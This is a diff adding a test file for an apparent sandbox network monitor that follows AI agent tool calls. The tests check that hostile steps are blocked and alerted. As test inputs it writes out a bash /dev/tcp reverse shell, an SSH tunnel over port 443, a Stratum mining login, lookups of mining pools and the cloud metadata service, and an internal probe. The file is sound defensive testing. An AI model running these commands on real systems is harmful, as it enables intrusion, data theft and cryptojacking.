@@ -1,0 +1,125 @@
+// Scenario tests (real sandboxes, real sockets, inside the lab): every hostile step of the
+// incident is blocked, the far host it aimed at saw zero connections, and the alert has
+// the right category and the right tool call.
+import { after, before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { startFixture, labPolicy, categories, type Fixture } from './helpers/lab-fixture.js';
+import { DEMO_FAR_HOSTS, demoEpisode } from '../src/cli/demo-scenario.js';
+import type { Session } from '../src/session/session.js';
+
+let fx: Fixture;
+before(async () => { fx = await startFixture(DEMO_FAR_HOSTS, 'labsh'); });
+after(async () => { await fx?.close(); });
+
+async function oneCall(command: string, opts: { tool?: 'bash' | 'python'; policy?: string } = {}) {
+  const s = await fx.rt.createSession({ policy: labPolicy(opts.policy), episode: 'scenario' });
+  try {
+    const r = await s.exec({ command, tool: opts.tool, step: 1, toolCallId: 'call-1', timeoutMs: 20_000 });
+    await s.close();
+    return { r, alerts: s.alertEvents, s };
+  } finally { await s.close(); }
+}
+
+test('the demo episode: each hostile step blocked, zero far-host connections, right category and tool call', async () => {
+  const calls = demoEpisode();
+  const s: Session = await fx.rt.createSession({ policy: labPolicy(), episode: calls[0]!.episode });
+  const results = [];
+  for (const c of calls) results.push(await s.exec({ command: c.command, step: c.step, toolCallId: c.tool_call_id, timeoutMs: 20_000 }));
+  const { alerts } = await s.close();
+  const by = (id: string) => categories(alerts.filter((a) => a.tool_call === id));
+  assert.deepEqual(by('demo-call-1'), [], 'benign step raises nothing');
+  assert.deepEqual(by('demo-call-2'), [], 'allowed download raises nothing');
+  assert.equal(results[1]!.exitCode, 0, results[1]!.stderr);
+  assert.deepEqual(by('demo-call-3'), ['tunnel']);
+  assert.deepEqual(by('demo-call-4'), ['mining'], 'the nohup miner is attributed to the step that started it');
+  assert.deepEqual(by('demo-call-5'), ['internal_probe']);
+  assert.deepEqual(by('demo-call-6'), ['metadata_access']);
+  assert.deepEqual(by('demo-call-7'), []);
+  const scan = alerts.find((a) => a.tool_call === 'demo-call-5')!;
+  assert.equal(scan.payload.count, 12, 'the scan is one alert with the count');
+  const miner = alerts.filter((a) => a.tool_call === 'demo-call-4');
+  assert.ok(miner.some((a) => /443/.test(a.payload.message)), 'Stratum over 443 to an allowed IP is cut');
+  assert.ok(miner.every((a) => a.pid && a.payload.evidence.length > 0));
+  assert.ok(BigInt(miner[0]!.ts) > BigInt(alerts.find((a) => a.tool_call === 'demo-call-6')!.ts), 'the miner alert fired during a later step');
+  const counts = await fx.far.counts();
+  for (const [k, c] of Object.entries(counts)) {
+    if (k === '198.51.100.10:80') assert.ok(c.accepted >= 1, 'registry reached');
+    else assert.equal(c.accepted, 0, `${k} must see zero connections`);
+  }
+  const gw = s.events.filter((e) => e.kind === 'connect' && e.payload.source === 'gateway');
+  assert.ok(gw.length >= 15);
+  assert.deepEqual(gw.filter((e) => e.payload.attribution !== 'kernel').map((e) => e.payload['network.peer.address']), [], 'every proxied connection is tied to its pid by the kernel record');
+  for (const a of alerts) {
+    assert.ok(a.session && a.episode && a.step && a.tool_call, 'attribution labels present');
+    assert.ok(a.payload.attack.length && a.payload.reason && a.payload.severity);
+  }
+});
+
+test('SSH over 443 to an allowed address is cut and reported as a tunnel', async () => {
+  const before = await fx.far.accepted('203.0.113.20', 443);
+  const { alerts } = await oneCall('ssh -p 443 -o StrictHostKeyChecking=no -o BatchMode=yes -o ConnectTimeout=3 x@203.0.113.20; echo rc=$?');
+  const t = alerts.find((a) => a.payload.category === 'tunnel');
+  assert.ok(t, JSON.stringify(alerts.map((a) => a.payload.message)));
+  assert.ok(t.payload.attack.includes('T1571'), 'non-standard port');
+  assert.equal(t.tool_call, 'call-1');
+  assert.equal(await fx.far.accepted('203.0.113.20', 443), before);
+});
+
+test('Stratum over 443 to an allowed IP from a Python socket client is cut as mining', async () => {
+  const before = await fx.far.accepted('203.0.113.20', 443);
+  const { alerts, r } = await oneCall(`import socket, json
+s = socket.create_connection(("203.0.113.20", 443), timeout=3)
+s.sendall((json.dumps({"id": 1, "method": "login", "params": {"login": "wallet", "pass": "x", "agent": "XMRig/6.21.0"}}) + "\\n").encode())
+try:
+    print("recv", s.recv(100))
+except Exception as e:
+    print("cut", type(e).__name__)`, { tool: 'python' });
+  assert.match(r.stdout, /cut|recv b''/);
+  assert.deepEqual(categories(alerts), ['mining']);
+  assert.equal(alerts[0]!.tool_call, 'call-1');
+  assert.equal(await fx.far.accepted('203.0.113.20', 443), before);
+});
+
+test('a bash /dev/tcp reverse shell and a Python socket client to an outside host are blocked', async () => {
+  const { alerts, r } = await oneCall('bash -c "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"; python3 -c "import socket; socket.create_connection((\'203.0.113.10\', 8080), timeout=2)"; echo done');
+  assert.match(r.stdout, /done/);
+  const msgs = alerts.map((a) => a.payload.message).join('\n');
+  assert.match(msgs, /203\.0\.113\.10:4444/);
+  assert.match(msgs, /203\.0\.113\.10:8080/);
+  assert.ok(alerts.every((a) => a.payload.category === 'policy_violation' && a.tool_call === 'call-1' && a.pid));
+  assert.equal(await fx.far.accepted('203.0.113.10', 22), 0);
+});
+
+test('DNS lookups of pool names are refused and reported as mining; metadata names too', async () => {
+  const { alerts, r } = await oneCall('getent hosts xmr.pool.test || echo nx1; getent hosts pool.supportxmr.com || echo nx2; getent hosts metadata.google.internal || echo nx3');
+  assert.match(r.stdout, /nx1[\s\S]*nx2[\s\S]*nx3/);
+  const mining = alerts.filter((a) => a.payload.category === 'mining');
+  assert.deepEqual(mining.map((a) => a.payload.rule), ['dns.mining_pool', 'dns.mining_pool']);
+  assert.ok(alerts.some((a) => a.payload.category === 'metadata_access' && a.payload.rule === 'dns.metadata'));
+});
+
+test('UDP, ICMP and IPv6 attempts are dropped and recorded', async () => {
+  const { alerts } = await oneCall(`import socket, time
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.sendto(b"tunnel", ("203.0.113.10", 9999))
+icmp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
+icmp.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("203.0.113.10", 0))
+try:
+    socket.create_connection(("2001:db8::1", 80), timeout=1)
+except OSError as e:
+    print("v6", e.errno)
+time.sleep(0.3)`, { tool: 'python' });
+  const msgs = alerts.map((a) => `${a.payload.rule} ${a.payload.message}`).join('\n');
+  assert.match(msgs, /UDP packet to 203\.0\.113\.10:9999 dropped/);
+  assert.match(msgs, /ICMP packet to 203\.0\.113\.10/);
+  assert.match(msgs, /IPv6/);
+  assert.ok(alerts.every((a) => a.tool_call === 'call-1'));
+});
+
+test('observe mode records "would block" and lets traffic through (lab only)', async () => {
+  const before = await fx.far.accepted('10.0.0.5', 80);
+  const { alerts } = await oneCall('curl -sS -m 3 -o /dev/null http://10.0.0.5/ && echo reached', { policy: 'mode: observe\n' });
+  assert.equal(await fx.far.accepted('10.0.0.5', 80), before + 1);
+  assert.equal(alerts[0]?.payload.action, 'observed');
+  assert.equal(alerts[0]?.payload.category, 'internal_probe');
+});
